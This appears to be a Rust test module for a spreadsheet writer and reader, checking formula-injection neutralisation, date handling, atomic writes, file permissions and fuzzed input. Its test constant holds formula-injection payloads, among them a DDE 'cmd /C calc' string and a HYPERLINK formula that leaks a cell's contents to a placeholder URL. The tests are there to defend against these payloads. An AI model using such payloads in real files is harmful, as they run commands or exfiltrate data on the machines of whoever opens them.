//! What we write, read back by us and looked at as an archive: texts stay texts, days stay days, and a file is whole.

use std::io::Read as _;

use proptest::prelude::*;

use super::super::{
    Page, Place, WriteError, csv_bytes, field, read_file, write_csv, write_xlsx, xlsx_bytes,
};
use super::*;
use crate::http::tests::kit::Folder;

/// What spreadsheets work out, each in a way that was used against somebody.
const FORMULAS: [&str; 8] = [
    "=1+1",
    "=HYPERLINK(\"http://x?\"&A1,\"klik\")",
    "+31612345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "{=SUM(A1)}",
    "http://example.nl",
];

fn page(rows: Vec<Vec<Cell>>) -> Page {
    let width = rows.iter().map(Vec::len).max().unwrap_or(1);
    let titles = (0..width).map(|column| format!("Kolom {}", super::super::column_letters(column)));
    Page { name: "Blad".to_owned(), titles: titles.collect(), rows }
}

/// A part of an archive as text.
fn part(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}

#[test]
fn text_that_begins_like_a_formula_is_inert_in_a_workbook() {
    let mut page = page(FORMULAS.map(|text| vec![typed(text)]).to_vec());
    page.titles = vec!["=2+2".to_owned()];
    let bytes = xlsx_bytes(&[page]).unwrap();
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f") && !sheet.contains("hyperlink"), "{sheet}");
    // Each of them is a text by its kind.
    assert_eq!(sheet.matches("t=\"s\"").count(), FORMULAS.len() + 1);
    let rows = table(&bytes).rows;
    let texts: Vec<String> = rows.iter().map(|row| row.cells[0].shown()).collect();
    assert_eq!(texts, FORMULAS);
}

#[test]
fn text_that_begins_like_a_formula_is_inert_in_csv() {
    let mut page = page(FORMULAS.map(|text| vec![typed(text), typed("=2")]).to_vec());
    page.titles[0] = "=2+2".to_owned();
    let bytes = csv_bytes(&page).unwrap();
    // As a program reads it that knows of no apostrophes.
    let mut reader =
        csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(&bytes[3..]);
    for field in reader
        .records()
        .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
    {
        assert!(!field.starts_with(['=', '+', '-', '@', '\t', '\r']), "{field:?}");
    }
    let texts: Vec<String> = table(&bytes).rows.iter().map(|row| row.cells[0].shown()).collect();
    assert_eq!(texts, FORMULAS);
}

#[test]
fn csv_opens_with_a_click_in_the_netherlands() {
    let row = vec![
        typed("Zoë; \"x\""),
        Cell::Number(-12.5),
        day(2026, 3, 9),
        Cell::Truth(true),
        Cell::Empty,
    ];
    let page = Page {
        titles: ["Naam", "Saldo", "Dag", "Klaar", "Leeg"].map(str::to_owned).to_vec(),
        ..page(vec![row])
    };
    let text = String::from_utf8(csv_bytes(&page).unwrap()).unwrap();
    assert_eq!(
        text,
        "\u{feff}Naam;Saldo;Dag;Klaar;Leeg\r\n\"Zoë; \"\"x\"\"\";-12,5;09-03-2026;ja;\r\n"
    );
}

#[test]
fn days_are_days_in_a_workbook_with_days_first() {
    let days =
        [day(1900, 1, 1), day(1900, 2, 28), day(1900, 3, 1), day(2026, 11, 13), day(9999, 12, 31)];
    let mut rows: Vec<Vec<Cell>> = days.iter().map(|it| vec![it.clone()]).collect();
    rows.push(vec![day(1899, 12, 31)]);
    let bytes = xlsx_bytes(&[page(rows)]).unwrap();
    assert!(
        part(&bytes, "xl/styles.xml").contains("formatCode=\"dd\\-mm\\-yyyy\"")
            || part(&bytes, "xl/styles.xml").contains("formatCode=\"dd-mm-yyyy\"")
    );
    let read: Vec<Cell> = table(&bytes).rows.into_iter().map(|row| row.cells[0].clone()).collect();
    assert_eq!(read[..5], days);
    assert_eq!(read[5], typed("31-12-1899"));
}

#[test]
fn a_workbook_has_a_sheet_for_each_page_and_none_is_lost() {
    let pages = ["Jan", "JAN", "", "Uren [2026]"]
        .map(|name| Page { name: name.to_owned(), ..page(vec![vec![typed(name), typed("x")]]) });
    let bytes = xlsx_bytes(&pages).unwrap();
    for (sheet, expect) in
        [("Jan", "Jan"), ("JAN (2)", "JAN"), ("Blad", ""), ("Uren  2026", "Uren [2026]")]
    {
        let table = read(&bytes, Wanted { sheet: Some(sheet), names: &[] }).unwrap();
        assert_eq!(table.rows[0].cells[0].shown(), expect);
    }
}

#[test]
fn what_no_spreadsheet_holds_is_refused_by_its_place() {
    let at = |row, column| Place { row, column };
    let endless = page(vec![vec![typed("x")], vec![typed("x"), Cell::Number(f64::NAN)]]);
    let expect = WriteError::NotANumber { page: "Blad".to_owned(), place: at(3, 1) };
    assert_eq!(csv_bytes(&endless), Err(expect.clone()));
    assert_eq!(xlsx_bytes(&[endless]), Err(expect));
    let long = page(vec![vec![typed(&"x".repeat(32_768))]]);
    let expect =
        WriteError::CellTooLong { page: "Blad".to_owned(), place: at(2, 0), chars_max: 32_767 };
    assert_eq!(xlsx_bytes(&[long]), Err(expect));
    assert_eq!(xlsx_bytes(&[]), Err(WriteError::NoPage));
}

#[test]
fn a_file_is_written_whole_or_stays_what_it_was() {
    let folder = Folder::new();
    let path = folder.0.join("mensen.xlsx");
    let good = page(vec![vec![typed("Samir")]]);
    write_xlsx(&path, std::slice::from_ref(&good)).unwrap();
    let before = std::fs::read(&path).unwrap();
    write_xlsx(&path, &[page(vec![vec![Cell::Number(f64::INFINITY)]])]).unwrap_err();
    assert_eq!(std::fs::read(&path).unwrap(), before);
    assert_eq!(shown(&read_file(&path, Wanted::default()).unwrap()), ["2: Samir"]);
    write_csv(&path, &good).unwrap();
    assert!(std::fs::read(&path).unwrap().starts_with(b"\xef\xbb\xbfKolom A\r\n"));
    // Where it cannot take its place, nothing of it stays.
    std::fs::create_dir(folder.0.join("map")).unwrap();
    std::fs::write(folder.0.join("map/x"), "").unwrap();
    assert!(matches!(write_csv(&folder.0.join("map"), &good), Err(WriteError::Unwritable(_))));
    let missing = folder.0.join("weg/mensen.csv");
    assert_eq!(
        write_csv(&missing, &good),
        Err(WriteError::Unwritable(std::io::ErrorKind::NotFound))
    );
    let mut names: Vec<_> =
        std::fs::read_dir(&folder.0).unwrap().map(|it| it.unwrap().file_name()).collect();
    names.sort();
    assert_eq!(names, ["map", "mensen.xlsx"]);
}

#[cfg(unix)]
#[test]
fn what_is_written_is_for_its_owners_eyes() {
    use std::os::unix::fs::PermissionsExt as _;
    let folder = Folder::new();
    let path = folder.0.join("mensen.csv");
    write_csv(&path, &page(vec![])).unwrap();
    assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
}

/// Texts with all that gives trouble: quotes, separators, breaks, formulas, escapes of Excel, letters of everywhere.
fn texts() -> impl Strategy<Value = String> {
    let trouble = "[a-zé=+@;,\"'\\t -]{0,3}(_x000[0-9A-F]_|&amp;|<b>|\n|\r\n|😀|سلام|x){1,3}[ a-z0-9'\"=]{0,6}";
    let text = prop_oneof![trouble, "\\PC{1,12}", "[=+@'-]{1,3}[0-9A-Z(,.]{1,5}"];
    text.prop_filter("a cell of spaces is an empty one", |it| !it.trim().is_empty())
}

fn cells() -> impl Strategy<Value = Cell> {
    prop_oneof![
        Just(Cell::Empty),
        texts().prop_map(Cell::Text),
        (-1e9..1e9_f64).prop_map(Cell::Number),
        any::<i32>().prop_map(|number| Cell::Number(f64::from(number))),
        (0..80_000_i64).prop_map(|days| {
            Cell::Day(NaiveDate::from_ymd_opt(1900, 1, 1).unwrap() + chrono::TimeDelta::days(days))
        }),
        any::<bool>().prop_map(Cell::Truth),
    ]
}

/// Rows of three, each with something in its first cell that is no header.
fn rows() -> impl Strategy<Value = Vec<Vec<Cell>>> {
    prop::collection::vec((0..1_000_000_u32, cells(), cells()), 1..12).prop_map(|rows| {
        let row = |(number, second, third)| vec![Cell::Number(f64::from(number)), second, third];
        rows.into_iter().map(row).collect()
    })
}

proptest! {
    #[test]
    fn a_workbook_is_read_back_as_it_was_written(rows in rows()) {
        let bytes = xlsx_bytes(&[page(rows.clone())]).unwrap();
        let read: Vec<Vec<Cell>> = table(&bytes).rows.into_iter().map(|row| row.cells).collect();
        for (read, written) in read.iter().zip(&rows) {
            let last = written.iter().rposition(|cell| !cell.is_empty()).unwrap_or_default();
            prop_assert_eq!(&read[..=last], &written[..=last]);
        }
        prop_assert_eq!(read.len(), rows.len());
    }

    #[test]
    fn csv_is_read_back_as_it_was_written(rows in rows()) {
        let bytes = csv_bytes(&page(rows.clone())).unwrap();
        let table = table(&bytes);
        prop_assert_eq!(table.rows.len(), rows.len());
        for (row, (read, written)) in table.rows.iter().zip(&rows).enumerate() {
            prop_assert!(read.number >= row + 2);
            for (read, written) in read.cells.iter().zip(written) {
                match written {
                    Cell::Empty => prop_assert_eq!(read, &Cell::Empty),
                    Cell::Text(_) | Cell::Fault(_) => prop_assert_eq!(read, written),
                    Cell::Number(number) => prop_assert_eq!(field::decimal(read), Ok(Some(*number))),
                    Cell::Day(day) => prop_assert_eq!(field::day(read), Ok(Some(*day))),
                    Cell::Truth(truth) => prop_assert_eq!(field::yes_or_no(read), Ok(Some(*truth))),
                }
            }
        }
    }

    /// Whatever the bytes, reading ends with a table or a reason.
    #[test]
    fn any_bytes_are_read_or_refused(bytes in prop::collection::vec(any::<u8>(), 0..400), kind in 0..4_usize) {
        let whole = [xlsx(&[("Blad", "visible", "<sheetData/>")]), ods(""), b"Naam;Uren\n".to_vec(), vec![]];
        let mut file = whole[kind].clone();
        for (at, byte) in bytes.iter().enumerate().filter(|(at, _)| at % 3 == 0) {
            let place = (usize::from(*byte) * 251 + at * 7) % file.len().max(1);
            if let Some(it) = file.get_mut(place) { *it = it.wrapping_add(*byte) }
        }
        file.extend(&bytes[..bytes.len() * usize::from(kind == 3 || kind == 2)]);
        let _ = read(&file, Wanted::default()).is_ok();
    }
}
